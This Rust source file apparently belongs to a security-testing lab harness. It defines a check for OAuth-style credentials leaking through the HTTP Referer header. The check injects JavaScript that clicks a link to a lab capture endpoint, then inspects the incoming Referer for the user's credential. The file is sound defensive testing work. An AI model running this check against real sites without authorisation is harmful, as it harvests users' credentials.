//! A credential in the Referer.

use std::time::Duration;

use crate::attack::{
    plan::{Attack, Expected, Found, Needs, Tried},
    stage::Stage,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "token-in-referrer",
    title: "A credential in the Referer",
    has: "a link or a picture on a page that people see after the sign-in",
    does: "waits for the browser to tell him where it comes from",
    gains: "the credential, from the address",
    source: "RFC 9700 section 4.2; CWE-598; F127",
    expected: Expected::EVERYWHERE,
    needs: Needs::Browser,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let (_, page) = stage.visitor("owner").await?;
    let credentials = stage.credentials_of(&page).await?;
    let mailbox = stage.lab.places.mailbox();
    page.run(&format!(
        "const a = document.createElement('a'); a.href = '{}'; document.body.append(a); a.click()",
        mailbox.url
    ))
    .await?;
    let hits = mailbox.wait(Duration::from_secs(10)).await;
    let hit = hits.first().ok_or("the link led nowhere")?;
    let referrer = hit.header("referer");
    let shown = referrer.split('?').next().unwrap_or_default();
    if credentials.iter().any(|credential| referrer.contains(credential.as_str())) {
        return Ok(Found::Worked(format!("it came from {shown}?… with the credential")));
    }
    Ok(Found::Refused(if referrer.is_empty() {
        "it came from nowhere".to_owned()
    } else {
        format!("it came from {shown}")
    }))
}
